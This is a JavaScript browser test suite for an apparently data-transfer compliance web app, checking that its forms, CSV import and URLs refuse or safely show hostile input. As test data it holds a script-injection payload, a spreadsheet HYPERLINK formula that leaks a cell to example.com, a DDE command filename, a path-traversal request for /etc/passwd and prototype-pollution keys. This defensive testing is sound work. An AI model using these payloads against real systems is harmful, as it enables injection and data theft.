// What people should not type, and what links should not say: a clear word in its place,
// nothing lost, nothing run.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { ask, browser, reader, serve, server, settled, together } from "./harness.mjs";

const program = fileURLToPath(new URL("../../bin/safeconduct", import.meta.url));
together();

/** A walk of one reader, at whose end nothing may have gone wrong unseen, and nothing have run. */
function journey(name, walk, options) {
  test(name, async () => {
    const { context, page, faults } = await reader(browser, server, options);
    page.on("dialog", (box) => {
      faults.push(`something ran: ${box.message()}`);
      void box.dismiss();
    });
    await walk(page, page.getByRole("dialog"));
    await context.close();
    assert.deepEqual(faults, []);
  });
}

const script = `"><img src=x onerror=alert(1)><script>alert(2)</script>`;
const formula = `=HYPERLINK("http://example.com?"&A1)`;
const hebrew = "שלום בע״מ";
const turned = "user\u202egpj.exe";
const long = "x".repeat(5_000);

/** The texts of each form, and what else it must have before the server is asked. */
const forms = {
  "/organizations": {
    texts: ["Name", "Group", "Domains", "Your own key"],
    choices: { Kind: 1, Country: 1 },
  },
  "/flows": {
    texts: ["Name", "Sends the data", "Receives the data", "Customer", "Purpose", "Product", "Declared basis", "Passes on the data of", "Your own key"],
    choices: { "Role of who sends": 1, "Role of who receives": 1 },
  },
  "/agreements": {
    texts: ["Sends the data", "Receives the data", "Clauses", "Terms or template", "Your own key"],
    choices: { Kind: 1 },
  },
  "/certifications": {
    texts: ["Certified", "Framework", "Recourse mechanism", "Your own key"],
    days: { "Certified on": "2025-01-01" },
    ticks: ["Everything but staff data"],
  },
  "/approvals": {
    texts: ["Group", "Authority", "Your own key"],
    choices: { "For whose data": 1, Regime: 1 },
  },
  "/assessments": {
    texts: ["Sends the data", "Receives the data", "Supplementary measures", "Your own key"],
    choices: { Outcome: 1 },
    days: { "Completed on": "2025-01-01" },
  },
};

for (const [path, { texts, choices = {}, days = {}, ticks = [] }] of Object.entries(forms)) {
  journey(`what is empty, too long or turned around is refused at its field: ${path}`, async (page, dialog) => {
    await page.goto(`${path}?record=new`);
    const send = dialog.getByRole("button", { name: "Record", exact: true });
    await send.click();
    await dialog.getByText("This is missing.").first().waitFor();
    for (const [label, index] of Object.entries(choices)) await dialog.getByLabel(label, { exact: true }).selectOption({ index });
    for (const [label, day] of Object.entries(days)) await dialog.getByLabel(label, { exact: true }).fill(day);
    for (const label of ticks) await dialog.getByRole("checkbox", { name: label }).check();
    for (const value of [long, turned]) {
      for (const label of texts) await dialog.getByLabel(label, { exact: true }).fill(value);
      await send.click();
      for (const label of texts.slice(0, 2)) await refusedAt(dialog, label, value);
      await settledForm(dialog);
    }
    const wide = await dialog.evaluate((box) => box.scrollWidth - box.clientWidth);
    assert.ok(wide <= 0, `the form is ${wide} pixels too wide`);
  });
}

/** Waits until a field is refused, in words of its own, and holds that it keeps what was typed. */
async function refusedAt(dialog, label, value) {
  const field = dialog.getByLabel(label, { exact: true });
  await field.and(dialog.locator("[aria-invalid=true]")).waitFor();
  const said = await dialog.locator(`[id="${await field.getAttribute("aria-describedby")}"]`).innerText();
  assert.ok(said.length > 10 && said.length < 400, `${label}: ${said.slice(0, 500)}`);
  assert.equal(await field.inputValue(), value, `${label} keeps what was typed`);
}

/** Waits until a form can be sent again. */
const settledForm = (dialog) => dialog.locator("button[type=submit]:not([disabled])").waitFor();

journey("names that look like scripts, formulas or other directions are names", async (page, dialog) => {
  for (const [key, name] of Object.entries({ script, formula, hebrew })) {
    await page.goto("/organizations?record=new");
    await dialog.getByLabel("Name", { exact: true }).fill(name);
    await dialog.getByLabel("Kind", { exact: true }).selectOption("customer");
    await dialog.getByLabel("Country", { exact: true }).selectOption("Germany");
    await dialog.getByLabel("Your own key").fill(`hostile ${key} <b>/../%00`);
    await dialog.getByLabel("Why").fill(name);
    await dialog.getByRole("button", { name: "Record", exact: true }).click();
    await page.getByRole("heading", { name, level: 1 }).waitFor();
    await page.goto(`/dpa?q=${encodeURIComponent(`hostile ${key}`)}`);
    await page.getByRole("heading", { name: "No agreement" }).waitFor();
    await page.getByText(`There is no data processing agreement with ${name} yet.`).waitFor();
    await page.goto(`/organizations?q=${encodeURIComponent(`hostile ${key}`)}`);
    await page.getByRole("link", { name, exact: true }).click();
    await page.getByRole("heading", { name, level: 1 }).waitFor();
  }
});

/** Forms beside those of records: where they open, how, their button, and fields with what is refused in them. */
const further = {
  "a token": {
    path: "/tokens",
    open: ["Create a token"],
    send: "Create a token",
    refused: { "What it is for": [long, turned], Until: ["1999-01-01", "9999-12-31"] },
    choose: { Role: "Auditor" },
    fill: { "What it is for": "an audit" },
    also: { "Limited to the flows of": [long, "nobody, <b>"] },
  },
  "a saved scenario": {
    path: "/what-if?change=invalidate~eu-us-dpf~2026-12-01",
    open: ["Save this"],
    send: "Save",
    refused: { Name: ["x".repeat(200), turned, " "], Note: [long, turned] },
  },
  "a comment": {
    path: "/flags?on=2020-07-16&importer=relay-us",
    open: ["Comment"],
    send: "Comment",
    refused: { "What is to be known": [long, turned] },
  },
  "a snooze": {
    path: "/flags?on=2020-07-16&importer=relay-us",
    open: ["Snooze"],
    send: "Snooze",
    fill: { "Back on": "2030-01-01", "Why it may wait": "it waits" },
    refused: { "Back on": ["2020-07-16", "1999-01-01"], "Why it may wait": [long, turned] },
  },
  "an end before the beginning": {
    path: "/flows/f-fraud",
    open: ["End"],
    send: "End",
    fill: { "Ended on": "2030-01-01" },
    refused: { Why: [long, turned], "Ended on": ["1990-01-01"] },
  },
  "groups that end before they begin": {
    path: "/organizations/relay-us",
    open: ["Change"],
    send: "Save",
    fill: { Group: "Relay", "In the group from": "2021-01-01" },
    refused: { "In the group until": ["2020-01-01"] },
  },
};

for (const [name, { path, open, send, refused, choose = {}, also = {}, fill = {} }] of Object.entries(further)) {
  journey(`what is too long, hostile or contradicts itself is refused at its field: ${name}`, async (page, dialog) => {
    await page.goto(path);
    if (path.startsWith("/flags")) await page.locator(".flag-rows tbody input[type=checkbox]").first().check();
    for (const button of open) await page.locator("main").getByRole("button", { name: button, exact: true }).first().click();
    for (const [label, option] of Object.entries(choose)) await dialog.getByLabel(label, { exact: true }).selectOption(option);
    for (const [label, value] of Object.entries(fill)) await dialog.getByLabel(label, { exact: true }).fill(value);
    for (const [label, values] of Object.entries({ ...refused, ...also })) {
      for (const value of values) {
        const field = dialog.getByLabel(label, { exact: true });
        const before = await field.inputValue();
        await field.fill(value);
        await dialog.getByRole("button", { name: send, exact: true }).click();
        await refusedAt(dialog, label, value);
        await settledForm(dialog);
        await field.fill(before);
      }
    }
    const wide = await dialog.evaluate((box) => box.scrollWidth - box.clientWidth);
    assert.ok(wide <= 0, `the form is ${wide} pixels too wide`);
  });
}

journey("files whose names and cells are hostile are told of as they are, and nothing runs", async (page) => {
  await page.goto("/import");
  for (const name of [`${script}.csv`, "fl\u202eows.csv", `${"x".repeat(250)}.csv`, "=cmd()|' /C calc'!A0.csv"]) {
    const buffer = Buffer.from(`id,name,kind,country,${script.replaceAll('"', '""')}\n${formula},${script},CUSTOMER,${hebrew}\n`);
    await page.locator("input[type=file]").setInputFiles({ name, mimeType: "text/csv", buffer });
    await page.getByLabel(/^What the rows of/).selectOption("Organizations");
    await page.getByRole("heading", { name: /nothing was written/ }).waitFor();
    const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
    assert.ok(wide <= 0, `with ${name.slice(0, 20)} the page is ${wide} pixels too wide`);
    await page.getByRole("button", { name: /^Remove/ }).click();
  }
});

/** Links with nonsense, and what the page says in its place. */
const nonsense = {
  "/?on=2020-99-99&destination=%3Cscript%3E&part=x": "Overview",
  "/flags?on=nonsense&by=x&mend=%22%3E%3Cimg%3E": "Flags",
  "/flows?status=x&origin=%3Cb%3E": /origin/,
  "/flows?destination=ZZ": /destination/,
  "/flows?exporter=nobody&on=0000-00-00": "Nothing fits all of these",
  [`/flows?q=${"x".repeat(600)}`]: /text/,
  "/flows?after=nonsense": /after/,
  "/flows/nobody": "There is no such record",
  "/organizations?country=ZZ": /country/,
  "/organizations?kind=x&group=%00": "Nothing fits all of these",
  "/organizations/%3Cscript%3Ealert(1)%3C%2Fscript%3E": "There is no such record",
  "/agreements?party=nobody": "Nothing fits all of these",
  "/agreements?after=nonsense&signatures=x": /after/,
  "/agreements/nobody?on=x": "There is no such record",
  "/certifications?organization=nobody": "Nothing fits all of these",
  "/certifications/nobody": "There is no such record",
  "/approvals?group=nobody&record=x": "Nothing fits all of these",
  "/approvals/nobody": "There is no such record",
  "/assessments?party=%F0%9F%92%A9": "Nothing fits all of these",
  "/assessments/nobody": "There is no such record",
  "/dpa?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&on=x": /No customer is called/,
  [`/dpa?q=${"x".repeat(600)}`]: /search/,
  "/what-if?change=x~y~z&change=invalidate~nothing~2020-13-13": "What if",
  "/deadlines?from=x&through=y&kind=z": "Deadlines",
  "/deadlines?from=2030-01-01&through=2020-01-01": /through/,
  "/law?on=x&kind=y": "Law",
  "/law/%22%3E": "There is no such record",
  "/?status=constructor&origin=__proto__&view=toString": "Overview",
  "/?on=0001-01-01&known=9999-12-31": "Overview",
  "/?known=<script>&known=x": "Overview",
  "/flags?status=toString&reason=constructor&by=__proto__&snoozed=valueOf&assignee=hasOwnProperty": "Flags",
  "/flags?on=2020-07-16&mend=constructor%3Ax%2B%2B&country=__proto__": /destination/,
  "/flags?on=2020-07-16&mend=constructor%3Ax%2B%2B": "No flag fits all of these",
  [`/flags?on=2020-07-16&customer=${"x".repeat(3000)}`]: "No flag fits all of these",
  "/flows?on=9999-12-31&on=x&record=constructor": "Flows",
  [`/flows?after=${"x".repeat(3000)}`]: /after/,
  "/flows/__proto__?on=0001-01-01": "There is no such record",
  "/organizations/%E0%A4": "There is no such record",
  "/law/constructor": "There is no such record",
  "/law?regime=__proto__&q=%E2%80%AE": "No instrument fits",
  "/deadlines?kind=constructor&view=valueOf&day=__proto__": "Deadlines",
  "/deadlines?from=0001-01-01&through=9999-12-31&view=calendar": "Deadlines",
  "/what-if?change=constructor~x~2026-12-01&effect=toString&saved=__proto__&compare=a&compare=b": "What if",
  "/what-if?change=enact~EU-ZZ~2026-12-01": /destination/,
  "/what-if?change=invalidate~eu-us-dpf~2026-12-01&change=end~eu-us-dpf~2027-01-01": /contradicts/,
  [`/what-if?${"change=invalidate~eu-us-dpf~2026-12-01&".repeat(60)}`]: /60/,
  "/what-if?change=invalidate~eu-us-dpf~2026-12-01&fallback=__proto__&effect=x": /is no instrument/,
  "/log?verb=constructor": "No write fits",
  "/log?from=1": /from/,
  "/log?after=x": "Log",
  "/log?from=x&actor=%3Cb%3E&verb=%00": "Log",
};

test("links with nonsense are answered by a word in its place", async () => {
  const { context, page, faults } = await reader(browser, server);
  page.setDefaultTimeout(10_000);
  const silent = [];
  for (const [path, said] of Object.entries(nonsense)) {
    await page.goto(path);
    await settled(page).catch(() => {}); // what does not settle says nothing
    const found =
      typeof said === "string"
        ? page.getByRole("heading", { name: said, exact: true })
        : page.locator("main").getByText(said);
    await found.first().waitFor({ timeout: 10_000 }).catch(() => silent.push(path.slice(0, 80)));
    if ((await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth)) > 0) {
      silent.push(`too wide: ${path.slice(0, 80)}`);
    }
  }
  await context.close();
  assert.deepEqual([...silent, ...faults], []);
});

test("unknown paths have status 404 and the page that says so, known ones 200", async () => {
  const { context, page, faults } = await reader(browser, server);
  for (const path of ["/nowhere", "/flows/a/b", "/approvals/", "/app/nothing.js", "/%00", "/..%2f..%2fetc%2fpasswd"]) {
    assert.equal((await page.request.get(path)).status(), 404, path);
  }
  await page.goto("/flows/a/b");
  await page.getByRole("heading", { name: "There is no such page" }).waitFor();
  for (const path of ["/flows", "/approvals", "/assessments/nobody", "/organizations?record=new"]) {
    assert.equal((await page.request.get(path)).status(), 200, path);
  }
  await context.close();
  assert.deepEqual(faults, []);
});

test("a session that ends in the middle of a form: one signs in in place, and saves", async () => {
  const alone = await serve(); // whose session ends here
  const { context, page, faults } = await reader(browser, alone);
  const dialog = page.getByRole("dialog", { name: "Record a flow" });
  await page.goto("/flows?record=new");
  await dialog.getByLabel("Name", { exact: true }).fill("Kept over the sign-in");
  await dialog.getByLabel("Sends the data").fill("relay-us");
  await dialog.getByLabel("Role of who sends").selectOption("processor");
  await dialog.getByLabel("Receives the data").fill("chatwave");
  await dialog.getByLabel("Role of who receives").selectOption("processor");
  await dialog.getByRole("checkbox", { name: "payments" }).check();
  const { sessions } = await ask(alone, "{ sessions { id } }");
  for (const { id } of sessions) await ask(alone, `mutation { endSession(id: "${id}") { id } }`);
  await dialog.getByRole("button", { name: "Record", exact: true }).click();
  const signIn = page.getByRole("dialog", { name: "Please sign in" });
  await signIn.getByRole("button", { name: "I have signed in" }).click(); // which is not so
  await signIn.getByLabel("The link").fill("https://example.com/#sign-in=stale");
  await signIn.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("That link no longer works").waitFor();
  await signIn.getByLabel("The link").fill(execFileSync(program, ["sign-in", "--data", alone.data], { encoding: "utf8" }));
  await signIn.getByRole("button", { name: "Sign in" }).click();
  await signIn.waitFor({ state: "detached" });
  assert.equal(await dialog.getByLabel("Name", { exact: true }).inputValue(), "Kept over the sign-in");
  assert.ok(await dialog.getByRole("checkbox", { name: "payments" }).isChecked());
  await dialog.getByRole("button", { name: "Record", exact: true }).click();
  await page.getByRole("heading", { name: "Kept over the sign-in", level: 1 }).waitFor();
  await context.close();
  await alone.stop();
  assert.deepEqual(faults, []);
});
